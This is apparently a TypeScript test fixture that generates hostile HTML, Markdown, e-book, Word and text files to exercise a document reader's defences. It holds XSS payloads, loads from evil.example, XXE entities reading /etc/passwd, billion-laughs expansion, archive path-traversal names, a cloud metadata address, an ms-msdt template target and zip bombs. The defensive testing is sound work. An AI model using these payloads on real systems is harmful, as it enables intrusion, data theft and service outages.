import {
  bytesOf,
  docxOf,
  epubOf,
  escaped,
  type Files,
  relationships,
  wordParagraph,
  zipOf,
} from './make-files'

/** A document made to do harm; what is in it is made when it is asked for. */
interface HostileDocument {
  readonly name: string
  readonly what: string
  readonly bytes: () => Uint8Array | Promise<Uint8Array>
}

type Make = (payload: string, what: string) => readonly HostileDocument[]

/** A payload of HTML in every format that HTML can come in. */
const inMarkup: Make = (payload, what) => [
  {
    what: `${what}, in a page`,
    name: 'x.html',
    bytes: () => bytesOf(`<!doctype html><p>文</p>${payload}`),
  },
  { what: `${what}, in Markdown`, name: 'x.md', bytes: () => bytesOf(`文\n\n${payload}\n`) },
  { what: `${what}, in an e-book`, name: 'x.epub', bytes: () => epubOf(`<p>文</p>${payload}`) },
]

const scripts: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<SCRIPT/SRC="data:text/javascript,alert(1)"></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">按</a>',
  '<a href="  JaVaScRiPt:alert(1)">按</a>',
  '<a href="java&#10;script:alert(1)">按</a>',
  '<a href="&#106;avascript:alert(1)">按</a>',
  '<a href="data:text/html,<script>alert(1)</script>">按</a>',
  '<a href="vbscript:msgbox(1)">按</a>',
  '<a href="file:///etc/passwd">按</a>',
  '<a href="app://piyue/index.html">按</a>',
  '<a href="piyue://document/x">按</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input autofocus onfocus=alert(1)></form>',
  '<button formaction="javascript:alert(1)">按</button>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="import" href="https://evil.example/x.html">',
  '<details open ontoggle=alert(1)>開</details>',
  '<video src="https://evil.example/x.mp4" onerror=alert(1)></video>',
]

const pictures: readonly string[] = [
  'https://evil.example/x.png',
  'http://127.0.0.1:1/x.png',
  '//evil.example/x.png',
  'ftp://evil.example/x.png',
  'file:///etc/passwd',
  '\\\\\\\\evil.example\\\\share\\\\x.png',
  'blob:https://evil.example/1',
  'javascript:alert(1)',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
]

const styles: readonly string[] = [
  '<style>@import url(https://evil.example/x.css)</style>',
  '<style>body{background:url(https://evil.example/x.png)}</style>',
  '<p style="background:url(https://evil.example/x.png)">文</p>',
  '<p style="width:expression(alert(1))">文</p>',
  '<p style="behavior:url(x.htc)">文</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml)">文</p>',
  '<style>*{position:fixed;top:0}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
]

const drawings: readonly string[] = [
  '<svg><script>alert(1)</script></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><image href="https://evil.example/x.png"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>按</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
]

/** Names that are to lead out of an archive. */
const traversals: readonly string[] = [
  '../../../../etc/passwd',
  '/etc/passwd',
  'C:\\\\Windows\\\\win.ini',
  '..\\\\..\\\\..\\\\secret',
  '....//....//etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  'a/../../b',
  'file:///etc/passwd',
  'https://evil.example/a.xhtml',
  '//evil.example/a.xhtml',
  'a.xhtml%00.png',
  '__proto__',
  'constructor',
  '',
]

const bookOf = (href: string): string =>
  `<package><manifest><item id="a" href="${escaped(href)}" media-type="application/xhtml+xml"/><item id="p" href="${escaped(href)}" media-type="image/png"/><item id="b" href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/><itemref idref="b"/></spine></package>`

/** Entities that grow, or that name a file or an address. */
const entities: readonly (readonly [what: string, definitions: string, use: string])[] = [
  [
    'a billion laughs',
    Array.from({ length: 10 }, (_, i) =>
      i === 0 ? '<!ENTITY l0 "哈">' : `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`,
    ).join(''),
    '&l9;',
  ],
  ['one long entity many times', `<!ENTITY a "${'哈'.repeat(50_000)}">`, '&a;'.repeat(5_000)],
  ['a file as an entity', '<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'],
  ['an address as an entity', '<!ENTITY x SYSTEM "https://evil.example/x">', '&x;'],
  ['a public entity', '<!ENTITY x PUBLIC "-//A//B" "https://evil.example/x">', '&x;'],
  ['an entity in a parameter', '<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;', ''],
  ['an entity that is itself', '<!ENTITY a "&b;"><!ENTITY b "&a;">', '&a;'],
]

const withEntities = (definitions: string, root: string): string =>
  `<?xml version="1.0"?><!DOCTYPE x [${definitions}]>${root}`

const inXml = ([what, definitions, use]: (typeof entities)[number]): readonly HostileDocument[] => {
  const book = (name: string, root: string): HostileDocument => ({
    what: `${what}, in ${name} of an e-book`,
    name: 'x.epub',
    bytes: () => epubOf('<p>文</p>', { [name]: withEntities(definitions, root) }),
  })
  const word = (name: string, root: string): HostileDocument => ({
    what: `${what}, in ${name} of a Word document`,
    name: 'x.docx',
    bytes: () => docxOf(wordParagraph('文'), { [name]: withEntities(definitions, root) }),
  })
  const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
  return [
    book('a.xhtml', `<html><body><p>文${use}</p></body></html>`),
    book(
      'book.opf',
      `<package><metadata><dc:title>${use}</dc:title></metadata>${bookOf('a.xhtml')}</package>`,
    ),
    book(
      'META-INF/container.xml',
      `<container><rootfiles><rootfile full-path="book.opf"/>${use}</rootfiles></container>`,
    ),
    word(
      'word/document.xml',
      `<w:document ${w}><w:body><w:p><w:r><w:t>文${use}</w:t></w:r></w:p></w:body></w:document>`,
    ),
    word('docProps/core.xml', `<cp:coreProperties><dc:title>${use}</dc:title></cp:coreProperties>`),
  ]
}

/** Targets that a Word document relates to. */
const targets: readonly string[] = [
  'file:///etc/passwd',
  'https://evil.example/x.png',
  'http://169.254.169.254/latest/meta-data',
  '\\\\\\\\evil.example\\\\share\\\\x.dotm',
  '../../../../etc/passwd',
  '/etc/passwd',
  'javascript:alert(1)',
  'mhtml:https://evil.example/x!x',
  'ms-msdt:/id PCWDiagnostic',
  'smb://evil.example/x',
]

const picture =
  '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:embed="x0" r:link="x0"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'

const relating = (target: string): readonly HostileDocument[] =>
  (['image', 'hyperlink', 'attachedTemplate'] as const).map((type) => ({
    what: `a Word document whose ${type} is ${target}`,
    name: 'x.docx',
    bytes: () =>
      docxOf(
        wordParagraph('文') +
          (type === 'image' ? picture : '') +
          (type === 'hyperlink'
            ? '<w:p><w:hyperlink r:id="x0"><w:r><w:t>按</w:t></w:r></w:hyperlink></w:p>'
            : ''),
        relationships({ type, target, ...(type === 'image' ? {} : { mode: 'External' }) }),
      ),
  }))

/** What is nested, and how deep. */
const nested: readonly HostileDocument[] = [
  ...['div', 'blockquote', 'ul><li', 'b', 'table><tr><td', 'ruby', 'section'].map(
    (tag): HostileDocument => ({
      what: `${tag} in itself, five thousand deep`,
      name: 'x.html',
      bytes: () => bytesOf(`${`<${tag}>`.repeat(5_000)}底`),
    }),
  ),
  ...['> ', '- ', '* ', '[', '![', '`', '<div>', '|', '#'].map(
    (mark): HostileDocument => ({
      what: `Markdown of ${mark} three thousand times`,
      name: 'x.md',
      bytes: () => bytesOf(`${mark.repeat(3_000)}底\n`),
    }),
  ),
  // Read in time that grows with the square: what takes minutes is for the process's own limit.
  {
    what: 'a link in itself, five hundred deep',
    name: 'x.html',
    bytes: () => bytesOf(`${'<a href=#x>'.repeat(500)}底`),
  },
  {
    what: 'Markdown of emphasis without end, five hundred times',
    name: 'x.md',
    bytes: () => bytesOf(`${'*a _'.repeat(500)}底\n`),
  },
  {
    what: 'a Word table in a table, a thousand deep',
    name: 'x.docx',
    bytes: () =>
      docxOf(
        `${'<w:tbl><w:tr><w:tc>'.repeat(1_000)}${wordParagraph('底')}${'</w:tc></w:tr></w:tbl>'.repeat(1_000)}`,
      ),
  },
  {
    what: 'a table whose cell claims to be a million wide',
    name: 'x.html',
    bytes: () =>
      bytesOf(
        `<table>${'<tr><td colspan=1000000 rowspan=1000000>甲</td><td>乙</td></tr>'.repeat(200)}</table>`,
      ),
  },
]

/** Archives that are not what they say. */
const archives: readonly HostileDocument[] = [
  ...[66].map(
    (megabytes): HostileDocument => ({
      what: `an archive that unpacks to ${megabytes} MB of nothing`,
      name: 'x.docx',
      bytes: () =>
        docxOf(wordParagraph('文'), { 'word/media/x.bin': new Uint8Array(megabytes << 20) }),
    }),
  ),
  {
    what: 'an archive of more than ten thousand files',
    name: 'x.epub',
    bytes: () =>
      epubOf(
        '<p>文</p>',
        Object.fromEntries(Array.from({ length: 10_001 }, (_, i) => [`f${i}`, ''])),
      ),
  },
  {
    what: 'an archive in an archive',
    name: 'x.epub',
    bytes: () => zipOf({ 'inner.epub': epubOf('<p>文</p>') }),
  },
  ...traversals.map(
    (name): HostileDocument => ({
      what: `an archive with a file called ${JSON.stringify(name)}`,
      name: 'x.epub',
      bytes: () => epubOf('<p>文</p>', name === '' ? {} : { [name]: '<p>外</p>' }),
    }),
  ),
  ...Array.from({ length: 20 }, (_, i): readonly HostileDocument[] => [
    {
      what: `an e-book that ends after ${(i + 1) * 5} %`,
      name: 'x.epub',
      bytes: async () => part(epubOf('<p>文</p>'), (i + 1) / 21),
    },
    {
      what: `a Word document with a byte wrong at ${(i + 1) * 5} %`,
      name: 'x.docx',
      bytes: async () => flipped(docxOf(wordParagraph('文')), (i + 1) / 21),
    },
  ]).flat(),
]

const part = (bytes: Uint8Array, share: number): Uint8Array =>
  bytes.subarray(0, Math.floor(bytes.length * share))

function flipped(bytes: Uint8Array, share: number): Uint8Array {
  const changed = bytes.slice()
  const at = Math.floor(bytes.length * share)
  changed[at] = (changed[at] ?? 0) ^ 0xff
  return changed
}

/** Text that is none, or that is made to look like other text. */
const texts: readonly HostileDocument[] = [
  ['nothing but zeros', new Uint8Array(100_000)],
  ['every byte there is', Uint8Array.from({ length: 65_536 }, (_, i) => i & 0xff)],
  ['one line of four megabytes', bytesOf('甲'.repeat(1_400_000))],
  ['a million empty lines', bytesOf('\n'.repeat(1_000_000))],
  ['marks that turn the line round', bytesOf('甲\u202eexe.txt\u202c乙\n')],
  ['ten thousand marks on one letter', bytesOf(`a${'\u0301'.repeat(10_000)}\n`)],
  ['a byte order mark and nothing', Uint8Array.of(0xef, 0xbb, 0xbf)],
  ['half a surrogate', Uint8Array.of(0xff, 0xfe, 0x00, 0xd8, 0x41, 0x00)],
  ['front matter without end', bytesOf(`---\n${'a: b\n'.repeat(5_000)}`)],
  ['a declaration of an encoding that is none', bytesOf('<meta charset="x-evil"><p>文</p>')],
  ['UTF-7', bytesOf('<meta charset="utf-7"><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>')],
].map(([what, bytes]) => ({
  what: String(what),
  name: String(what).includes('declaration') || what === 'UTF-7' ? 'x.html' : 'x.txt',
  bytes: () => bytes as Uint8Array,
}))

const files = (name: string): Files => ({ 'book.opf': bookOf(name) })

/** Every one of them. */
export const hostileDocuments: readonly HostileDocument[] = [
  ...scripts.flatMap((payload) => inMarkup(payload, payload)),
  ...pictures.flatMap((source) =>
    inMarkup(`<img src="${source}" alt="圖"/>`, `a picture from ${source}`),
  ),
  ...styles.flatMap((style) => inMarkup(style, style)),
  ...drawings.flatMap((drawing) => inMarkup(drawing, drawing)),
  ...traversals.map(
    (name): HostileDocument => ({
      what: `an e-book whose page is ${JSON.stringify(name)}`,
      name: 'x.epub',
      bytes: () => epubOf('<p>文</p>', files(name)),
    }),
  ),
  ...entities.flatMap(inXml),
  ...targets.flatMap(relating),
  ...nested,
  ...archives,
  ...texts,
]
